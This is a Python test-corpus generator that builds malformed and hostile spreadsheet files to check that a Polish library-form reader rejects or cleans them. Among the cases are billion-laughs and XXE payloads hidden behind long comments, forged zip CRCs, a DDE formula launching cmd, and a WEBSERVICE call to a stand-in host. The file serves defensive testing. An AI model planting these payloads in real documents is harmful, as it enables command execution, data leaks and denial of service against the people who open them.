"""Round two of the hostile corpus (issue 14): cases built as an attacker or an unlucky
library would, from real generated forms, LibreOffice saves and zip/XML surgery.

:func:`build_round_two` is called by :func:`corpus.make_corpus.build_corpus` with the
bases it made; every case is registered through its ``case`` callback (file, kind,
reader verdict and code, and for the batch-level ones the consolidator's final status).
"""

from __future__ import annotations

import io
import random
import re
import shutil
import struct
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Callable

from xl_afbp import names

ACCEPTED, WARNED, REJECTED = "accepted", "accepted_with_warnings", "rejected"
SKIPPED, UNRESOLVED = "skipped", "unresolved"

#: the percentage K-03 row and the items that allow "#" (tests may name edition knowledge)
PERCENT_ROW = "D8.P1.W13"
HASH_ITEM = 3
PAD = b"<!--" + b"to nie jest DTD " * 4400 + b"-->"  # 70 kB of comment before the DOCTYPE


def _zip_tools():
    from corpus import make_corpus as mc

    return mc


# ============================================================================ surgery
def damage_member(src: Path, dst: Path, member: str) -> Path:
    """Flip one byte in the middle of a member's stored data; the directory keeps the
    member's CRC and sizes (what a good copy of the file declares)."""
    data = bytearray(src.read_bytes())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member)
    off = info.header_offset
    n, e = struct.unpack_from("<HH", data, off + 26)
    data[off + 30 + n + e + info.compress_size // 2] ^= 0x55
    dst.write_bytes(bytes(data))
    return dst


def forge_member(src: Path, dst: Path, member: str, edit: Callable[[bytes], bytes]) -> Path:
    """Replace a member by other content of the same length and keep, in both headers, the
    CRC of the original: a file whose directory says exactly what a good file's says."""
    mc = _zip_tools()
    with zipfile.ZipFile(src) as zf:
        original = zf.getinfo(member).CRC
        before = zf.read(member)
    after = edit(before)
    assert len(after) == len(before) and after != before
    data = bytearray(mc.rewrite(src, dst, {member: after}).read_bytes())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member)
    struct.pack_into("<L", data, info.header_offset + 14, original)
    cd = data.find(b"PK\x01\x02")
    while cd >= 0:
        n_len, e_len, c_len = struct.unpack_from("<HHH", data, cd + 28)
        if bytes(data[cd + 46 : cd + 46 + n_len]).decode() == member:
            struct.pack_into("<L", data, cd + 16, original)
            break
        cd = data.find(b"PK\x01\x02", cd + 46 + n_len + e_len + c_len)
    dst.write_bytes(bytes(data))
    return dst


def late_dtd(dtd: bytes, entity: bytes, pad: bytes = PAD) -> Callable[[bytes], bytes]:
    """70 kB of comment (or a processing instruction) before a DTD whose entity is used."""
    mc = _zip_tools()

    def edit(xml: bytes) -> bytes:
        body = mc.with_dtd(dtd, entity)(xml)
        decl, _, rest = body.partition(b"?>")
        return decl + b"?>" + pad + rest

    return edit


def raw_value(ref: str, text: bytes) -> Callable[[bytes], bytes]:
    """A numeric cell's ``<v>`` replaced by ``text`` (the cell keeps its attributes)."""

    def edit(xml: bytes) -> bytes:
        new, n = re.subn(rb'(<c r="' + ref.encode() + rb'"[^>]*>)(?:<v>[^<]*</v>)?</c>', rb"\g<1><v>" + text + rb"</v></c>", xml, count=1)
        assert n == 1, ref
        return new

    return edit


def relabel(src: Path, dst: Path, old: str, new: str) -> Path:
    """Give a form another library id: every text node holding exactly the old id (``_meta``
    and the id shown on the form, inline, shared or ODS text) gets the new one."""
    mc = _zip_tools()
    pat = re.compile(rb">" + re.escape(old.encode()) + rb"<")
    change = {}
    for name, data in mc.members(src):
        if name.endswith(".xml") and pat.search(data):
            change[name] = pat.sub(b">" + new.encode() + b"<", data)
    return mc.rewrite(src, dst, change)


def rename_sheet(old: str, new: str) -> Callable[[bytes], bytes]:
    """workbook.xml with a sheet renamed and the defined names following it (as Excel does)."""

    def edit(xml: bytes) -> bytes:
        xml = xml.replace(b'name="' + old.encode() + b'"', b'name="' + new.encode() + b'"', 1)
        return re.sub(rb">'?" + re.escape(old.encode()) + rb"'?!", b">'" + new.encode() + b"'!", xml)

    return edit


def ods_edit_table(title: str, edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """content.xml with one sheet (``table:table``) edited."""

    def change(xml: bytes) -> bytes:
        start = xml.index(b'<table:table table:name="' + title.encode() + b'"')
        end = xml.index(b"</table:table>", start)
        return xml[:start] + edit(xml[start:end]) + xml[end:]

    return change


def lock_file(user: str) -> bytes:
    """An Excel owner file (``~$name.xlsx``): the user's name, padded, 165 bytes."""
    name = user.encode("latin-1")
    return bytes([len(name)]) + name.ljust(53, b" ") + b"\x00" + user.encode("utf-16-le").ljust(110, b"\x00")[:110]


# ============================================================================ the cases
def percent_source(filled: Path, work: Path, data) -> Path:
    """The filled form with the main library's percentage typed as "NN%": 0.NN shown with
    the 0% format (made before LibreOffice recalculates it)."""
    mc = _zip_tools()
    sheet, ref = mc.name_cell(filled, names.k03_row(PERCENT_ROW))
    xf = mc._xf_count(filled)

    def styles(x: bytes) -> bytes:
        m = re.search(rb'<cellXfs count="(\d+)"', x)
        x = x.replace(m.group(0), b'<cellXfs count="%d"' % (int(m.group(1)) + 1), 1)
        return x.replace(b"</cellXfs>", b'<xf numFmtId="9" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>', 1)

    def sheet_xml(x: bytes) -> bytes:
        x = mc.set_cells(x, {ref: data.k03[PERCENT_ROW][0] / 100})
        return re.sub(rb'(<c r="' + ref.encode() + rb'")(?: s="\d+")?', rb'\1 s="%d"' % xf, x, count=1)

    return mc.rewrite(filled, work / "percent_typed_k03.xlsx", {"xl/styles.xml": styles, mc.sheet_parts(filled)[sheet]: sheet_xml})


def build_round_two(case: Callable[..., Path], out: Path, work: Path, *, filled: Path, blank: Path, data, libs, saved: dict[str, Path], lo_extra: dict[str, Path]) -> None:
    """Every round-two case (LibreOffice-made bases in ``saved``/``lo_extra`` when present)."""
    mc = _zip_tools()
    rnd = random.Random(20161)
    parts = mc.sheet_parts(filled)
    form_part = parts["Formularz"]

    # -- class 1: text no writer can carry ---------------------------------------------------
    raw_typed = out / "ok_raw_typed.xlsx"
    nazwa = mc.name_cell(raw_typed, names.basic("NAZWA"))
    organizator = mc.name_cell(raw_typed, names.basic("ORGANIZATOR"))
    raw_parts = mc.sheet_parts(raw_typed)

    def escaped_text(cell: tuple[str, str], text: bytes) -> Callable[[bytes], bytes]:
        def edit(x: bytes) -> bytes:
            return re.sub(rb'(<c r="' + cell[1].encode() + rb'"[^>]*><is><t[^>]*>)[^<]*(</t>)', rb"\g<1>" + text + rb"\g<2>", x, count=1)

        return edit

    mc.rewrite(raw_typed, case("text_lone_surrogate.xlsx", "a lone UTF-16 surrogate written as _xD800_ in the library's name", WARNED, "text_cleaned"), {raw_parts[nazwa[0]]: escaped_text(nazwa, b"Biblioteka_xD800_ Publiczna")})
    mc.rewrite(raw_typed, case("text_control_chars.xlsx", "control characters (_x0001_) and a terminal ESC sequence (_x001B_[31m) in the organiser", WARNED, "text_cleaned"), {raw_parts[organizator[0]]: escaped_text(organizator, b"Gmina_x0001_ _x001B_[31mBia\xc5\x82ogard_x001B_[0m")})
    mc.rewrite(raw_typed, case("text_surrogate_pair.xlsx", "a valid surrogate pair written as two escapes (_xD83D__xDCDA_: a book emoji) – one character, kept", ACCEPTED, "ok"), {raw_parts[nazwa[0]]: escaped_text(nazwa, b"Biblioteka _xD83D__xDCDA_")})
    lo_file = saved.get("xlsx")
    if lo_file is not None:
        lo_name = mc.name_cell(lo_file, names.basic("NAZWA"))

        def sst_entry(text: bytes) -> Callable[[bytes], bytes]:  # the name's shared string gets ``text`` in front
            return lambda x: x.replace(b">" + data.basic["NAZWA"].encode() + b"<", b">" + text + data.basic["NAZWA"].encode() + b"<", 1)

        mc.rewrite(lo_file, case("text_lone_surrogate_sst.xlsx", "LibreOffice file: _xD800_ (a lone surrogate) in the shared string of the name", WARNED, "text_cleaned"), {"xl/sharedStrings.xml": sst_entry(b"_xD800_")})
        mc.rewrite(lo_file, case("charref_surrogate_sst.xlsx", "LibreOffice file: &#xD800; in the shared string of the name (not well-formed XML)", REJECTED, "malformed_xml"), {"xl/sharedStrings.xml": sst_entry(b"&#xD800;")})

    # -- class 6: a DTD after a long prolog ---------------------------------------------------
    mc.rewrite(filled, case("late_dtd_sheet.xlsx", "billion laughs after a 70 kB comment in a read sheet", REJECTED, "xml_entities"), {form_part: late_dtd(mc.LAUGHS, b"&lol9;")})
    mc.rewrite(filled, case("late_dtd_core.xlsx", "external entity after a 70 kB comment in docProps/core.xml", REJECTED, "xml_entities"), {"docProps/core.xml": late_dtd(mc.XXE, b"")})
    mc.rewrite(filled, case("late_dtd_styles.xlsx", "billion laughs after a 70 kB comment in styles.xml", REJECTED, "xml_entities"), {"xl/styles.xml": late_dtd(mc.LAUGHS, b"")})
    pi = b"<?xl-afbp " + b"instrukcja przetwarzania " * 2900 + b"?>"
    mc.rewrite(filled, case("late_dtd_pi_unread.xlsx", "a DTD after a 70 kB processing instruction in a sheet never read (_teryt)", REJECTED, "xml_entities"), {parts["_teryt"]: late_dtd(mc.XXE, b"", pi)})
    if lo_file is not None:
        mc.rewrite(lo_file, case("late_dtd_sst.xlsx", "billion laughs after a 70 kB comment in sharedStrings.xml (LibreOffice-saved file)", REJECTED, "xml_entities"), {"xl/sharedStrings.xml": late_dtd(mc.LAUGHS, b"")})
    endless = b"<!--" + "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(1_100_000)).encode() + b"-->"
    mc.rewrite(filled, case("endless_prolog.xlsx", "a prolog of 1.1 MB (a comment) before the root element of docProps/app.xml", REJECTED, "malformed_xml"), {"docProps/app.xml": lambda x: x.replace(b"?>", b"?>" + endless, 1) if x.startswith(b"<?xml") else endless + x})

    # -- class 5: damage the zip directory cannot show ----------------------------------------
    for member, file in (("xl/workbook.xml", "damaged_workbook_xml.xlsx"), ("xl/styles.xml", "damaged_styles.xlsx"), ("[Content_Types].xml", "damaged_content_types.xlsx"), ("docProps/app.xml", "damaged_app_xml.xlsx")):
        damage_member(filled, case(file, f"{member} damaged in transit, CRC and sizes in the zip directory unchanged", REJECTED, "corrupt_zip", note="read after a good copy it must still be rejected"), member)

    def other_name(x: bytes) -> bytes:  # P_04 → the cell of P_05 (same length): a forged workbook.xml
        target = mc.defined_names(filled)[names.item(5)].encode()
        m = re.search(rb'(<definedName name="' + names.item(4).encode() + rb'">)([^<]*)(</definedName>)', x)
        assert m and len(m.group(2)) == len(target)
        return x[: m.start(2)] + target + x[m.end(2) :]

    forge_member(filled, case("forged_crc_workbook.xlsx", "workbook.xml edited, its declared CRC forged to the original's", REJECTED, "corrupt_zip"), "xl/workbook.xml", other_name)

    # -- class 7: numbers Excel would not read -----------------------------------------------
    p4_sheet, p4 = mc.name_cell(filled, names.item(4))
    for file, text, kind in (
        ("underscore_number.xlsx", b"48_735", "Python-only number syntax in a numeric cell (<v>48_735</v>)"),
        ("nan_number.xlsx", b"NaN", "<v>NaN</v> in a numeric cell"),
        ("arabic_digits_number.xlsx", "٤٨٧٣٥".encode(), "Arabic-Indic digits in a numeric cell's <v>"),
    ):
        mc.rewrite(filled, case(file, kind, REJECTED, "malformed_xml", note="Excel would repair the file; never silently a number or empty"), {parts[p4_sheet]: raw_value(p4, text)})
    mc.patch_cells(filled, case("arabic_digits_text.xlsx", "Arabic-Indic digits typed as text in a numeric item", WARNED, "invalid_values", note="text, reported by item"), {(p4_sheet, p4): "٤٨٧٣٥"})
    if lo_file is not None:
        lo_parts = mc.sheet_parts(lo_file)
        mc.rewrite(lo_file, case("sst_index_out_of_range.xlsx", "the name's cell points to shared string 999999 (there are a few hundred)", REJECTED, "malformed_xml"), {lo_parts[lo_name[0]]: lambda x: re.sub(rb'(<c r="' + lo_name[1].encode() + rb'"[^>]*t="s"[^>]*>)<v>\d+</v>', rb"\g<1><v>999999</v>", x, count=1)})
    if "percent" in lo_extra:
        shutil.copy(lo_extra["percent"], case("percent_typed_k03.xlsx", f"K-03 {PERCENT_ROW} typed as a percentage (0.64 with the 0% format), saved by LibreOffice", ACCEPTED, "ok", note=f"read as {data.k03[PERCENT_ROW][0]}"))

    # -- class 9: malformed XML that once took seconds -----------------------------------------
    for file, blob, kind in (
        ("unclosed_cells.xlsx", b"<c>" + b'<c r="A1">' * 28_000, "280 kB of unclosed <c> tags in a read sheet"),
        ("unclosed_values.xlsx", b"<c>" + b'<c r="A1"><x:v>' * 18_000, "280 kB of unclosed <x:v> tags in a read sheet"),
        ("unclosed_text.xlsx", b"<c>" + b'<c r="A1" t="inlineStr"><is><x:t>' * 8_500, "280 kB of unclosed inline-string tags in a read sheet"),
    ):
        mc.rewrite(filled, case(file, kind, REJECTED, "malformed_xml", note="linear: milliseconds, not the 10 s time limit"), {form_part: lambda x, blob=blob: x.replace(b"</sheetData>", blob + b"</sheetData>")})

    # -- class 10: reasons that misled ----------------------------------------------------------
    mc.patch_cells(filled, case("hash_with_spaces.xlsx", f"' # ' (with spaces) in item {HASH_ITEM}, which allows '#'", WARNED, "invalid_values", note="the reason asks for a bare #"), {mc.name_cell(filled, names.item(HASH_ITEM)): " # "})
    mc.rewrite(filled, case("sheet_renamed.xlsx", "the sheet Formularz renamed (defined names follow it)", WARNED, "sheet_renamed"), {"xl/workbook.xml": rename_sheet("Formularz", "Formularz 2016")})

    # -- class 11: formulas that fetch data ------------------------------------------------------
    v4 = data.items[4]
    for file, formula, kind in (
        ("webservice_input.xlsx", '_xlfn.WEBSERVICE("http://zlo.example/?dane=1")', "WEBSERVICE in an input"),
        ("dde_input.xlsx", "cmd|' /C calc'!A0", "a DDE formula (=cmd|'/C calc'!A0) in an input"),
        ("external_ref_input.xlsx", "[1]Arkusz1!A1", "a reference to another workbook ([1]Arkusz1!A1) in an input"),
    ):
        mc.patch_cells(filled, case(file, kind, REJECTED, "external_formula"), {(p4_sheet, p4): v4}, formulas={(p4_sheet, p4): formula})

    # -- class 12: .ods and .xls returns -----------------------------------------------------------
    ods = saved.get("ods")
    if ods is not None:
        shutil.copy(ods, case("form_saved_as.ods", "the form saved by LibreOffice as .ods", ACCEPTED, "ok", note="values equal ok_openpyxl.xlsx"))
        strip = lambda x: re.sub(rb' table:formula="[^"]*"', b"", x)  # noqa: E731
        mc.rewrite(ods, case("ods_indicators_pasted.ods", ".ods: the indicators pasted as values (formulas gone)", WARNED, "formulas_replaced"), {"content.xml": ods_edit_table("Wskaźniki", strip)})
        mc.rewrite(ods, case("ods_macro.ods", ".ods with a LibreOffice Basic macro library", REJECTED, "macro"), add=[("Basic/script-lc.xml", b'<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library"/>'), ("Basic/Standard/Module1.xml", b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main\nEnd Sub</script:module>')])
    if "xls" in lo_extra:
        shutil.copy(lo_extra["xls"], case("form_saved_as.xls", "the form saved as Excel 97-2003 .xls (LibreOffice)", REJECTED, "wrong_format", note="the reason tells the coordinator the one-step conversion"))

    # -- class 8 / issue 13: files that are no form --------------------------------------------------
    case("~$ok_openpyxl.xlsx", "Excel's lock file of an open form (~$…)", SKIPPED, "not_a_form").write_bytes(lock_file("Jan Kowalski"))
    case(".~lock.formularz.xlsx#", "LibreOffice's lock file", SKIPPED, "not_a_form").write_bytes(b"Jan Kowalski,jan,BIBLIOTEKA-PC,27.11.2026 10:00,file:///C:/Users/jan/AppData/Roaming/LibreOffice/4;")
    mc.write_zip(case("pismo_przewodnie.docx", "a cover letter (.docx)", SKIPPED, "not_a_form"), [("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'), ("word/document.xml", b"<w:document/>")])
    case("skan_formularza.jpg", "a scan of the printed form (.jpg)", SKIPPED, "not_a_form").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rnd.randbytes(2000))
    case("notatka.txt", "a note (.txt)", SKIPPED, "not_a_form").write_bytes("W załączniku przesyłamy formularz AFBP.\nPozdrawiamy\n".encode("utf-8"))
    if "pdf" in saved:
        shutil.copy(saved["pdf"], case("wydruk.pdf", "a PDF print of the form (.pdf)", SKIPPED, "not_a_form"))

    _batch_groups(case, work, libs, data)


def _batch_groups(case: Callable[..., Path], work: Path, libs, data) -> None:
    """Versions and identities (class 4): decided by the consolidator, files together."""
    from xl_afbp.generate import generate_batch

    mc = _zip_tools()
    chosen = {
        "ZP-WERSJE-REMIS": libs[5],
        "ZP-WERSJE-PRZYSZLA": libs[6],
        "ZP-NAZWA-NIEWIDOCZNA": libs[7],
        "ZP-PRAWDZIWA": libs[3],
        "ZP-PODSZYWKA": libs[2],
        "ZP-ID-NIEWIDOCZNY": libs[0],
    }
    forms = {p.stem: p for p in generate_batch([replace(lib, id=i) for i, lib in chosen.items()], work / "round2", progress=False, workers=1)}
    sim = mc._simulated
    core = mc.set_core_modified

    def typed(lib_id: str, seed: int, dst: Path, stamp: str, **basic: str) -> Path:
        d = sim(chosen[lib_id], seed)
        d.basic.update(basic)
        return mc.type_in(forms[lib_id], dst, d, extra={"docProps/core.xml": core(stamp)})

    g = "equal_save_times"
    typed("ZP-WERSJE-REMIS", 21, case("same_time_a.xlsx", "two versions of one library with equal save times: A", ACCEPTED, "ok", group=g, final_verdict=UNRESOLVED, final_code="version_unclear"), "2017-02-01T10:00:00Z")
    typed("ZP-WERSJE-REMIS", 22, case("same_time_b.xlsx", "two versions of one library with equal save times: B", ACCEPTED, "ok", group=g, final_verdict=UNRESOLVED, final_code="version_unclear"), "2017-02-01T10:00:00Z")
    g = "future_save_time"
    typed("ZP-WERSJE-PRZYSZLA", 23, case("future_time_old.xlsx", "two versions: one saved 2017-01-10", ACCEPTED, "ok", group=g, final_verdict=UNRESOLVED, final_code="version_unclear"), "2017-01-10T10:00:00Z")
    typed("ZP-WERSJE-PRZYSZLA", 24, case("future_time_new.xlsx", "two versions: the other saved in 2099 (a wrong clock)", ACCEPTED, "ok", group=g, final_verdict=UNRESOLVED, final_code="version_unclear"), "2099-01-01T10:00:00Z")
    g = "invisible_name"
    name = chosen["ZP-NAZWA-NIEWIDOCZNA"].nazwa
    typed("ZP-NAZWA-NIEWIDOCZNA", 25, case("invisible_name_old.xlsx", "two versions whose names differ by a zero-width space: the older", ACCEPTED, "ok", group=g, final_verdict="superseded", final_code="superseded"), "2017-01-10T10:00:00Z", NAZWA=name)
    typed("ZP-NAZWA-NIEWIDOCZNA", 26, case("invisible_name_new.xlsx", "two versions whose names differ by a zero-width space: the newer", ACCEPTED, "ok", group=g, final_verdict=ACCEPTED, final_code=None), "2017-01-20T10:00:00Z", NAZWA=name.replace(" ", " \u200b", 1))
    g = "id_claimed"
    typed("ZP-PRAWDZIWA", 27, case("id_genuine.xlsx", "the genuine form of a library whose id another file claims", ACCEPTED, "ok", group=g, final_verdict=ACCEPTED, final_code=None), "2017-01-10T10:00:00Z")
    claimed = typed("ZP-PODSZYWKA", 28, work / "impostor.xlsx", "2017-01-20T10:00:00Z")
    mc.patch_cells(claimed, case("id_impostor.xlsx", "another library's form whose hidden _meta id was changed to the genuine one's", REJECTED, "id_mismatch", group=g, final_verdict=REJECTED, final_code="id_mismatch"), mc.meta_patch(claimed, library_id="ZP-PRAWDZIWA"))
    g = "invisible_id"
    typed("ZP-ID-NIEWIDOCZNY", 29, case("invisible_id_old.xlsx", "two versions: the older with the plain id", ACCEPTED, "ok", group=g, final_verdict="superseded", final_code="superseded"), "2017-01-10T10:00:00Z")
    newer = typed("ZP-ID-NIEWIDOCZNY", 30, work / "invisible_id_new.xlsx", "2017-01-20T10:00:00Z")
    mc.patch_cells(newer, case("invisible_id_new.xlsx", "two versions: the newer's _meta id carries a zero-width space", ACCEPTED, "ok", group=g, final_verdict=ACCEPTED, final_code=None), mc.meta_patch(newer, library_id="ZP-ID-NIEWIDOCZNY\u200b"))


__all__ = ["build_round_two", "damage_member", "forge_member", "percent_source", "relabel"]
